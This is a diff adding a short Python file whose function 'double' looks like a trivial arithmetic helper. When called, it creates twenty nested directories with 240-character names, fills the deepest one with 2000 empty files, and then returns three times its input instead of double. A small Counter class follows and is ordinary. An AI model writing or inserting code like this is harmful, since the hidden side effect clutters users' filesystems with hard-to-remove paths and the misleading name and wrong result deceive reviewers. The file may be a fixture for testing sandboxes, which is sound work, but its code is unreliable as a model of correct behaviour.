@@ -1,0 +1,21 @@
+import os
+
+
+def double(x):
+    here = os.getcwd()
+    for _ in range(20):
+        os.mkdir("deep" * 60)
+        os.chdir("deep" * 60)
+    for i in range(2000):
+        open(f"{i}", "w").close()
+    os.chdir(here)
+    return x * 3
+
+
+class Counter:
+    def __init__(self):
+        self.count = 0
+
+    def __call__(self):
+        self.count += 1
+        return self.count
